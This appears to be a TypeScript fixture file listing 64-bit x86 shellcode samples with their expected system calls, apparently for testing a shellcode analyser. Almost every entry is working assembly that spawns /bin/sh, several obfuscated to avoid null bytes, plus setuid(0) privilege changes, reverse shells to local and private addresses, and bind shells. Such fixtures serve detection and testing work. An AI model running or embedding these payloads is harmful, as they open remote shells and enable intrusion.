import type { Sample } from './sample.ts';
import { DUP_LOOP, PUSH_SHELL, SHELL, SOCKET } from './snippets-64.ts';

/** 64-bit shells: local, to a peer, for a peer. */
export const SHELLS_64: readonly Sample[] = [
  {
    name: 'pushed /bin/sh',
    bits: 64,
    source: SHELL,
    chain: 'shell',
    call: 'execve("//bin/sh", ["//bin/sh"]',
    traits: ['stack-string', 'syscall'],
  },
  {
    name: '/bin/sh with a NUL in the constant',
    bits: 64,
    source:
      'mov rax, 0x0068732f6e69622f; push rax; mov rdi, rsp; xor esi, esi; xor edx, edx; mov eax, 59; syscall',
    chain: 'shell',
    call: 'execve("/bin/sh", NULL, NULL)',
    traits: ['stack-string'],
  },
  {
    name: '/bin/sh in the code, by jmp-call-pop',
    bits: 64,
    source:
      'jmp 2f; 1: pop rdi; xor esi, esi; xor edx, edx; push 59; pop rax; syscall; 2: call 1b; .asciz "/bin/sh"',
    chain: 'shell',
    call: '"/bin/sh"',
    traits: ['load-rip', 'syscall'],
  },
  {
    name: '/bin/sh in the code, by rip-relative lea',
    bits: 64,
    source: 'lea rdi, [rip+1f]; xor esi, esi; xor edx, edx; mov eax, 59; syscall; 1: .asciz "/bin/sh"',
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh inverted, and turned by neg',
    bits: 64,
    source:
      'mov rbx, 0xFF978CD091969DD1; neg rbx; push rbx; push rsp; pop rdi; cdq; push rdx; push rdi; push rsp; pop rsi; mov al, 59; syscall',
    chain: 'shell',
    call: '"/bin/sh"',
    traits: ['stack-string'],
  },
  {
    name: '/bin/sh shifted down from a full register',
    bits: 64,
    source:
      'mov rbx, 0x68732f6e69622fff; shr rbx, 8; push rbx; mov rdi, rsp; xor esi, esi; xor edx, edx; push 59; pop rax; syscall',
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh written byte by byte',
    bits: 64,
    source: `sub rsp, 16; mov rdi, rsp; mov byte ptr [rdi], '/'; mov byte ptr [rdi+1], 'b'; mov byte ptr [rdi+2], 'i'
      mov byte ptr [rdi+3], 'n'; mov byte ptr [rdi+4], '/'; mov byte ptr [rdi+5], 's'; mov byte ptr [rdi+6], 'h'
      mov byte ptr [rdi+7], 0; xor esi, esi; xor edx, edx; mov eax, 59; syscall`,
    chain: 'shell',
    call: '"/bin/sh"',
  },
  {
    name: '/bin/sh xored by a constant',
    bits: 64,
    source:
      'mov rax, 0x169751b5a1c4bc4; mov rbx, 0x01011a7534732aeb; mov rcx, 0x0068732f6e69622f; push rcx; mov rdi, rsp; xor esi, esi; xor edx, edx; mov eax, 59; syscall',
    chain: 'shell',
  },
  {
    name: '/bin/bash -c',
    bits: 64,
    source: `jmp 2f; 1: pop rbx; lea rdi, [rbx]; lea rcx, [rbx+10]; lea r8, [rbx+13]; xor eax, eax; push rax; push r8; push rcx; push rdi
      mov rsi, rsp; xor edx, edx; mov al, 59; syscall; 2: call 1b; .asciz "/bin/bash"; .asciz "-c"; .asciz "id > /tmp/x"`,
    chain: 'shell',
    call: '["/bin/bash", "-c", "id > /tmp/x"]',
  },
  {
    name: 'execveat',
    bits: 64,
    source: `${PUSH_SHELL}
      mov rsi, rdi; xor edi, edi; xor edx, edx; xor r10d, r10d; xor r8d, r8d; mov eax, 322; syscall`,
    chain: 'shell',
    call: 'execveat(',
  },
  {
    name: 'x32 numbers',
    bits: 64,
    source: `${PUSH_SHELL}\nxor esi, esi\nmov eax, 0x40000208\nsyscall`,
    chain: 'shell',
    call: 'execve("//bin/sh"',
  },
  {
    name: 'i386 call from 64-bit code',
    bits: 64,
    source:
      'xor eax, eax; mov ecx, 0x30000; mov eax, 192; mov ebx, 0x10000; mov ecx, 0x1000; mov edx, 7; mov esi, 0x32; mov edi, -1; xor ebp, ebp; int 0x80; mov ebx, eax; mov dword ptr [rbx], 0x6e69622f; mov dword ptr [rbx+4], 0x0068732f; xor ecx, ecx; xor edx, edx; mov eax, 11; int 0x80',
    chain: 'shell',
    call: 'execve("/bin/sh"',
  },
  {
    name: 'setuid(0) and a shell',
    bits: 64,
    source: `xor edi, edi; mov eax, 105; syscall; ${SHELL}`,
    chain: 'privilege change',
    call: 'setuid(0)',
  },
  {
    name: 'setreuid and a shell',
    bits: 64,
    source: `push 107; pop rax; syscall; mov edi, eax; mov esi, eax; push 113; pop rax; syscall; ${SHELL}`,
    chain: 'shell',
    call: 'setreuid(',
  },
  {
    name: 'reverse shell',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall; ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: 'connect(3, 127.0.0.1:4444, 16)',
  },
  {
    name: 'reverse shell, IPv6',
    bits: 64,
    source: `push 41; pop rax; push 10; pop rdi; push 1; pop rsi; cdq; syscall; xchg edi, eax
      push 0; mov rcx, 0x0100000000000000; push rcx; push 0; mov rcx, 0x000000003905000a; push rcx; mov rsi, rsp; push 28; pop rdx; push 42; pop rax; syscall
      ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: '[::1]:1337',
  },
  {
    name: 'reverse shell, dup3 and close',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0201a8c0bb010002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
      mov ebx, 2; 1: mov esi, ebx; xor edx, edx; mov eax, 292; syscall; dec ebx; jns 1b; ${SHELL}`,
    chain: 'reverse shell',
    call: '192.168.1.2:443',
  },
  {
    name: 'reverse shell by fcntl',
    bits: 64,
    source: `${SOCKET}
      mov rcx, 0x0100007f5c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 42; pop rax; syscall
      mov ebx, edi; xor edi, edi; mov eax, 3; syscall; mov edi, ebx; xor esi, esi; xor edx, edx; mov eax, 72; syscall; ${SHELL}`,
    chain: 'reverse shell',
  },
  {
    name: 'bind shell',
    bits: 64,
    source: `${SOCKET}
      push 0; mov rcx, 0x000000005c110002; push rcx; mov rsi, rsp; push 16; pop rdx; push 49; pop rax; syscall
      push 1; pop rsi; push 50; pop rax; syscall; xor esi, esi; xor edx, edx; push 43; pop rax; syscall; xchg edi, eax; ${DUP_LOOP}; ${SHELL}`,
    chain: 'bind shell',
    call: 'bind(3, 0.0.0.0:4444, 16)',
  },
  {
    name: 'bind shell that forks for each client',
    bits: 64,
    source: `${SOCKET}
      push 0; mov rcx, 0x0000000039050002; push rcx; mov rsi, rsp; push 16; pop rdx; push 49; pop rax; syscall
      push 50; pop rax; push 5; pop rsi; syscall; mov ebp, edi
      3: mov edi, ebp; xor esi, esi; xor edx, edx; push 43; pop rax; syscall; mov ebx, eax; push 57; pop rax; syscall; test eax, eax; jnz 3b
      mov edi, ebx; ${DUP_LOOP}; ${SHELL}`,
    chain: 'bind shell',
  },
  {
    name: 'shell on a socket that was open',
    bits: 64,
    source: `push 5; pop rdi; ${DUP_LOOP}; ${SHELL}`.replace(
      'push 5',
      'sub rsp, 64; mov rsi, rsp; lea rdx, [rsp+32]; mov dword ptr [rdx], 16; push 5; pop rdi; push 52; pop rax; syscall; push 5',
    ),
    chain: 'bind shell',
    call: 'getpeername(5',
  },
];
